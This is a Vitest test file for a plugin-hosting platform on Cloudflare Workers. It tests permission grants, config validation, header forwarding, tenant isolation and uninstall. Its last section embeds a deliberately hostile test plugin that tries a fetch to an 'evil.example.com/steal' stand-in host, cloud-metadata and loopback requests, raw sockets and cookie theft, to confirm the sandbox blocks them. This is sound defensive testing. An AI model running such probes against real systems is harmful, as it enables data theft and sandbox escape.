import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { forgetCachedPackages } from "../../src/runtime/packages";
import { call, problem, signup } from "../helpers";
import {
  examplePackage,
  installPlugin,
  publishAndInstall,
  publishZip,
  publisher,
  rawPackage,
} from "../plugin-helpers";

describe("installing a plugin", () => {
  it("installs with its grants and config, calls initialize, and returns the endpoint", async () => {
    const a = await publisher();
    const inst = await publishAndInstall(a, examplePackage("hello", a.slug), {
      config: { greeting: "Hi" },
    });
    expect(inst.endpoint).toBe(`/p/${inst.id}`);
    const got = (await (
      await call(`/v1/installations/${inst.id}`, { key: a.apiKey })
    ).json()) as Record<string, unknown>;
    expect(got).toMatchObject({
      plugin: `@${a.slug}/hello`,
      version: "1.0.0",
      environment: "development",
      config: { greeting: "Hi" },
      grants: [{ permission: "storage" }],
    });
    const list = (await (await call("/v1/installations", { key: a.apiKey })).json()) as {
      installations: { id: string }[];
    };
    expect(list.installations.map((i) => i.id)).toContain(inst.id);
  });

  it("refuses an install that does not grant every declared permission, naming it", async () => {
    const a = await publisher();
    await publishZip(a, examplePackage("payment-gateway", a.slug));
    const res = await installPlugin(a, {
      plugin: `@${a.slug}/payment-gateway`,
      grants: ["storage"],
      secrets: {},
    });
    expect(res.status).toBe(400);
    const p = await problem(res);
    expect(p.detail).toContain("network:api.stripe.com");
    expect(p.detail).toContain("secrets:PAYMENT_API_KEY");
  });

  it.each([
    ["a config that breaks the schema", { config: { greeting: 42 } }, "greeting"],
    ["config keys the schema does not allow", { config: { colour: "red" } }, "config"],
    ["an undeclared grant", { grants: ["storage", "payments"] }, "payments"],
  ])("refuses %s and stores nothing", async (_label, patch, text) => {
    const a = await publisher();
    await publishZip(a, examplePackage("hello", a.slug));
    const res = await installPlugin(a, {
      plugin: `@${a.slug}/hello`,
      grants: ["storage"],
      ...patch,
    });
    expect(res.status).toBe(400);
    expect(JSON.stringify(await problem(res))).toContain(text);
    const rows = await env.DB.prepare("SELECT count(*) AS n FROM installations WHERE org_id = ?")
      .bind(a.orgId)
      .first<{ n: number }>();
    expect(rows?.n).toBe(0);
  });

  it("refuses a second install into the same environment, and allows another environment", async () => {
    const a = await publisher();
    await publishAndInstall(a, examplePackage("hello", a.slug));
    const again = await installPlugin(a, { plugin: `@${a.slug}/hello`, grants: ["storage"] });
    expect(again.status).toBe(409);
    expect(
      (
        await installPlugin(a, {
          plugin: `@${a.slug}/hello`,
          grants: ["storage"],
          environment: "production",
        })
      ).status,
    ).toBe(201);
  });

  it("leaves nothing behind when the plugin's initialize fails", async () => {
    const a = await publisher();
    const zip = rawPackage(
      a.slug,
      `export default { async fetch(req) { if (new URL(req.url).pathname === "/__atoll/initialize") return Response.json({ error: "no database" }, { status: 500 }); return new Response("ok"); } }`,
    );
    const pub = (await (await publishZip(a, zip)).json()) as { plugin: string };
    const res = await installPlugin(a, { plugin: pub.plugin, grants: [] });
    expect(res.status).toBe(502);
    expect((await problem(res)).detail).toContain("no database");
    expect(
      (await (await call("/v1/installations", { key: a.apiKey })).json()) as {
        installations: unknown[];
      },
    ).toEqual({ installations: [] });
  });
});

describe("calling a plugin", () => {
  it("executes and serves the plugin's routes at its endpoint, with storage per installation", async () => {
    const a = await publisher();
    const inst = await publishAndInstall(a, examplePackage("hello", a.slug), {
      config: { greeting: "Hi" },
    });
    const exec = await call(`/v1/installations/${inst.id}/execute`, {
      method: "POST",
      key: a.apiKey,
      json: { input: { name: "Ada" } },
    });
    expect(exec.status).toBe(200);
    expect(await exec.json()).toEqual({ output: { message: "Hi, Ada!" } });
    const hello = await call(`${inst.endpoint}/hello/Grace`, { key: a.apiKey });
    expect(hello.status).toBe(200);
    expect(hello.headers.get("x-atoll-plugin-time")).toMatch(/^\d+$/);
    expect(await hello.json()).toEqual({ message: "Hi, Grace!" });
    expect(
      await (await call(`${inst.endpoint}/visits`, { method: "POST", key: a.apiKey })).json(),
    ).toEqual({ visits: 1 });
    expect(
      await (await call(`${inst.endpoint}/visits`, { method: "POST", key: a.apiKey })).json(),
    ).toEqual({ visits: 2 });
    // Another installation of the same plugin has its own storage.
    const b = await publisher();
    const other = await publishAndInstall(b, examplePackage("hello", b.slug));
    expect(
      await (await call(`${other.endpoint}/visits`, { method: "POST", key: b.apiKey })).json(),
    ).toEqual({ visits: 1 });
  });

  it("tells the plugin who is calling, in headers the caller cannot forge, and never passes credentials", async () => {
    const a = await publisher();
    const inst = await publishAndInstall(
      a,
      rawPackage(
        a.slug,
        `export default { fetch(req) { return Response.json(Object.fromEntries(req.headers)); } }`,
      ),
    );
    const res = await call(`${inst.endpoint}/echo`, {
      key: a.apiKey,
      headers: {
        cookie: "session=secret",
        "x-atoll-organization": "org_forged",
        "x-custom": "kept",
      },
    });
    const headers = (await res.json()) as Record<string, string>;
    expect(headers["x-atoll-organization"]).toBe(a.orgId);
    expect(headers["x-atoll-installation"]).toBe(inst.id);
    expect(headers["x-atoll-subject"]).toBe(a.apiKeyId);
    expect(headers["x-atoll-request-id"]).toBeTruthy();
    expect(headers["x-custom"]).toBe("kept");
    for (const h of ["x-api-key", "authorization", "cookie"]) expect(headers).not.toHaveProperty(h);
    expect(JSON.stringify(headers)).not.toContain(a.apiKey);
  });

  it("answers 404 to another organization, and never reaches lifecycle paths from outside", async () => {
    const a = await publisher();
    const inst = await publishAndInstall(a, examplePackage("hello", a.slug));
    const b = await signup();
    expect((await call(`${inst.endpoint}/hello/x`, { key: b.apiKey })).status).toBe(404);
    expect(
      (
        await call(`/v1/installations/${inst.id}/execute`, {
          method: "POST",
          key: b.apiKey,
          json: { input: {} },
        })
      ).status,
    ).toBe(404);
    expect(
      (await call(`/v1/installations/${inst.id}`, { method: "DELETE", key: b.apiKey })).status,
    ).toBe(404);
    expect(
      (await call(`${inst.endpoint}/__atoll/cleanup`, { method: "POST", key: a.apiKey })).status,
    ).toBe(404);
    expect((await call(`${inst.endpoint}/hello/x`)).status).toBe(401);
  });

  it("uninstalls: calls cleanup, removes the installation and its data", async () => {
    const a = await publisher();
    const inst = await publishAndInstall(a, examplePackage("hello", a.slug));
    await call(`${inst.endpoint}/visits`, { method: "POST", key: a.apiKey });
    expect(
      (await call(`/v1/installations/${inst.id}`, { method: "DELETE", key: a.apiKey })).status,
    ).toBe(204);
    expect((await call(`${inst.endpoint}/hello/x`, { key: a.apiKey })).status).toBe(404);
    const stub = env.INSTALLATION_STORE.get(env.INSTALLATION_STORE.idFromName(inst.id));
    expect(await stub.list("", 10)).toEqual([]);
    const audit = await (
      await call(`/v1/organizations/${a.orgId}/audit-log`, { key: a.apiKey })
    ).text();
    expect(audit).toContain('"cleanup":"ok"');
  });
});

describe("a failing or hostile plugin", () => {
  const hostile = `
    import { connect } from "cloudflare:sockets";
    export default {
      async fetch(req, env) {
        const u = new URL(req.url);
        const attempt = async (f) => { try { const r = await f(); return { ok: true, status: r.status ?? null, egress: r.headers ? r.headers.get("x-atoll-egress") : null, text: r.text ? await r.text() : null }; } catch (e) { return { ok: false, error: String(e && e.message || e) }; } };
        switch (u.pathname) {
          case "/env": return Response.json(Object.keys(env).sort());
          case "/granted": return Response.json(await attempt(() => fetch("https://api.stripe.com/v1/charges/ch_x", { headers: { authorization: "Bearer sk_test_x" } })));
          case "/ungranted": return Response.json(await attempt(() => fetch("https://evil.example.com/steal")));
          case "/loopback": return Response.json(await attempt(() => fetch("http://127.0.0.1:8787/healthz")));
          case "/ip": return Response.json(await attempt(() => fetch("https://169.254.169.254/latest/meta-data")));
          case "/connect": return Response.json(await attempt(async () => {
            const s = connect("api.stripe.com:443");
            const info = await s.opened;
            const w = s.writable.getWriter();
            await w.write(new TextEncoder().encode("PING"));
            const r = await s.readable.getReader().read();
            if (r.done) throw new Error("connection closed without data");
            return { status: "read " + r.value.byteLength + " bytes from " + JSON.stringify(info) };
          }));
          case "/throw": throw new Error("kaboom");
          case "/huge": return new Response("x".repeat(6 * 1024 * 1024));
          case "/huge-stream": { let n = 0; return new Response(new ReadableStream({ pull(c) { if (n++ < 100) c.enqueue(new Uint8Array(64 * 1024)); else c.close(); } })); }
          case "/cookie": return new Response("ok", { headers: { "set-cookie": "atoll_session=stolen; Path=/" } });
          case "/__atoll/execute": return new Response("definitely not json", { status: 200 });
          default: return new Response("ok");
        }
      }
    };`;

  async function installHostile(grants: string[], install: Record<string, unknown> = {}) {
    const a = await publisher();
    const inst = await publishAndInstall(
      a,
      rawPackage(a.slug, hostile, { permissions: grants }),
      install,
    );
    return {
      a,
      inst,
      get: async (path: string) => call(`${inst.endpoint}${path}`, { key: a.apiKey }),
    };
  }

  it("reaches exactly its granted host, and nothing else", async () => {
    const { get } = await installHostile(["network:api.stripe.com"]);
    expect(await (await get("/granted")).json()).toMatchObject({ ok: true, egress: null });
    // Refused with the production outbound Worker's answer (egressRefusal), never fetched.
    for (const path of ["/ungranted", "/loopback", "/ip"])
      expect(await (await get(path)).json(), path).toMatchObject({
        ok: true,
        status: 403,
        egress: "refused",
      });
    expect(((await (await get("/ungranted")).json()) as { text: string }).text).toContain(
      "evil.example.com is not granted",
    );
  });

  it("cannot open raw sockets", async () => {
    const { get } = await installHostile(["network:api.stripe.com"]);
    expect(await (await get("/connect")).json()).toMatchObject({ ok: false });
  });

  it("has no network at all without a network grant", async () => {
    const { get } = await installHostile([]);
    const r = (await (await get("/granted")).json()) as { ok: boolean; error: string };
    expect(r.ok).toBe(false);
  });

  it("receives only the bindings its grants allow, never the platform's", async () => {
    const { get: without } = await installHostile([]);
    expect(await (await without("/env")).json()).toEqual(["ATOLL"]);
    const { get: granted } = await installHostile(["storage", "secrets:TOKEN"], {
      secrets: { TOKEN: "t0k3n" },
    });
    expect(await (await granted("/env")).json()).toEqual(["ATOLL", "SECRET_TOKEN", "STORAGE"]);
  });

  it("answers 502 naming the cause when it throws, and the next call works", async () => {
    const { get } = await installHostile([]);
    const res = await get("/throw");
    expect(res.status).toBe(502);
    const p = await problem(res);
    expect(p.type).toMatch(/plugin-error$/);
    expect(p.detail).toContain("kaboom");
    expect((await get("/fine")).status).toBe(200);
    expect((await call("/healthz")).status).toBe(200);
  });

  it("answers 502 when execute returns garbage", async () => {
    const { a, inst } = await installHostile([]);
    const res = await call(`/v1/installations/${inst.id}/execute`, {
      method: "POST",
      key: a.apiKey,
      json: { input: 1 },
    });
    expect(res.status).toBe(502);
    expect((await problem(res)).type).toMatch(/plugin-bad-response$/);
  });

  it.each(["/huge", "/huge-stream"])(
    "may not answer more than the response cap (%s)",
    async (path) => {
      const { get } = await installHostile([]);
      const res = await get(path);
      expect(res.status).toBe(502);
      expect((await problem(res)).type).toMatch(/plugin-response-too-large$/);
      expect((await get("/fine")).status).toBe(200);
    },
  );

  it("may not set cookies for the platform", async () => {
    const { get } = await installHostile([]);
    const res = await get("/cookie");
    expect(res.status).toBe(200);
    expect(res.headers.get("set-cookie")).toBeNull();
  });

  it("is never run when its stored package no longer matches its hash", async () => {
    const a = await publisher();
    const pub = (await (await publishZip(a, examplePackage("hello", a.slug))).json()) as {
      plugin: string;
      sha256: string;
    };
    await env.PACKAGES.put(
      `packages/sha256/${pub.sha256}.zip`,
      rawPackage(a.slug, "export default { fetch() { return new Response('evil') } }"),
    );
    forgetCachedPackages();
    const res = await installPlugin(a, { plugin: pub.plugin, grants: ["storage"] });
    expect(res.status).toBe(502);
    expect((await problem(res)).type).toMatch(/plugin-integrity$/);
  });
});
